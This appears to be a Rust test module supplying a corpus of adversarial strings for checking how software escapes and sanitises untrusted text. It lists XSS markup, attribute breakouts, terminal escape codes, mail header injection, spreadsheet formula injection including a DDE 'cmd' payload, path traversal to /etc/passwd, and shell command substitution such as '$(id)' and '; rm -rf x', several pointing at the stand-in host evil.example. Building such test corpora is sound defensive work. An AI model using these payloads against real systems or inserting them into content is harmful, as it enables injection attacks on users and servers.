//! Several hundred strings of our own that try to be something else than words: markup, attributes, addresses,
//! controls, mail headers, formulas, paths.

/// Attempts at markup and script.
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><input name=x>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "<object data=data:text/html,x>",
    "<template><b>x</template>",
    "<!-- a comment",
    "--><b>after a comment",
    "<![CDATA[ x ]]><b>",
    "]]></content></entry><entry>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE html><html>",
    "</title><b>x",
    "</style><b>x",
    "</textarea><b>x",
    "</main></body></html>",
    "<del>gone</del><ins>come</ins>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;b&#62;x",
    "&#x3c;b&#x3e;x",
    "&amp;lt;b&amp;gt;x",
    "<b",
    "<",
    "<\u{0}b>x",
    "<b\u{0}onclick=1>",
    "\u{ff1c}b\u{ff1e}",
];

/// Attempts to leave an attribute's value.
const ATTRIBUTES: &[&str] = &[
    "\"",
    "'",
    "`",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"/><b>",
    "' style='x:y",
    "x\" autofocus onfocus=alert(1) y=\"",
    "\\\" onload=\\\"x",
    "=\"x\"",
];

/// Attempts at Markdown.
const MARKDOWN: &[&str] = &[
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "---",
    "===",
    "```\ncode",
    "    code",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "[x]: https://evil.example",
    "<https://evil.example>",
    "**b** __b__ *i* _i_ ~~s~~ `c`",
    "| a | b |\n| --- | --- |",
    "\\",
    "\\[x](y)",
    "https://evil.example www.evil.example a@evil.example",
    "- [ ] task",
    "[^1]: note",
    "$x$ $$y$$",
];

/// Attempts on terminals and on eyes.
const CONTROLS: &[&str] = &[
    "\u{1b}[31mred",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;https://evil.example\u{1b}\\link",
    "\u{1b}[2J\u{1b}[H",
    "\u{9b}31m",
    "\u{90}q\u{9c}",
    "a\u{8}\u{8}b",
    "a\rb",
    "\u{202e}gnp.exe",
    "\u{2066}\u{2067}\u{2068}\u{2069}",
    "\u{200e}\u{200f}\u{61c}",
    "a\u{200b}b\u{feff}c\u{2060}d",
    "\u{e0041}\u{e0042}",
    "\u{fff9}a\u{fffa}b\u{fffb}",
    "a\u{2028}b\u{2029}c",
    "\u{0}\u{1}\u{2}\u{7f}",
    "a\u{85}b\u{c}c\u{b}d",
];

/// Attempts on mail headers and answers.
const HEADERS: &[&str] = &[
    "x\r\nBcc: everybody@evil.example",
    "x\nSubject: other",
    "x\r\n\r\n<html>body",
    "=?utf-8?B?PHNjcmlwdD4=?=",
    "x\u{0}\r\nTo: a@evil.example",
    "a@evil.example, b@evil.example",
    "\"Name\" <a@evil.example>",
    ".\r\nMAIL FROM:<a@evil.example>",
];

/// Attempts at a spreadsheet's formula.
const FORMULAS: &[&str] = &[
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u{200b}=1",
    "\u{feff}@x",
    "\u{ff1d}1",
    "\"=1\"",
    "a,b;c\td",
    "\"\"\"",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
];

/// Attempts at a path.
const PATHS: &[&str] = &[
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "C:\\x",
    "file:///etc/passwd",
    "a/../../b",
    "%2e%2e%2f",
    "CON",
    ".",
    "..",
    "a\u{0}.html",
    "~/x",
    "$HOME",
    "`id`",
    "$(id)",
    "; rm -rf x",
];

/// All of them: as they are, at the end and in the middle of words, twice over, in another case, and very long.
pub(crate) fn strings() -> Vec<String> {
    let sets = [MARKUP, ATTRIBUTES, MARKDOWN, CONTROLS, HEADERS, FORMULAS, PATHS];
    let mut all = Vec::new();
    for (n, one) in sets.into_iter().flatten().enumerate() {
        all.push((*one).to_owned());
        all.push(format!("Guidance {one}"));
        all.push(match n % 4 {
            0 => format!("{one}{one}"),
            1 => one.to_uppercase(),
            2 => format!("must{one}should"),
            // Many words would be elided, which is another shape for another reason.
            _ => one.repeat(if one.contains(char::is_whitespace) { 3 } else { 40 }),
        });
    }
    all
}

/// Addresses that are none that a reader should be sent to.
pub(crate) const ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "data:text/html,<script>1</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example/",
    "blob:x",
    "about:blank",
    "mailto:a@evil.example?bcc=b@evil.example",
];
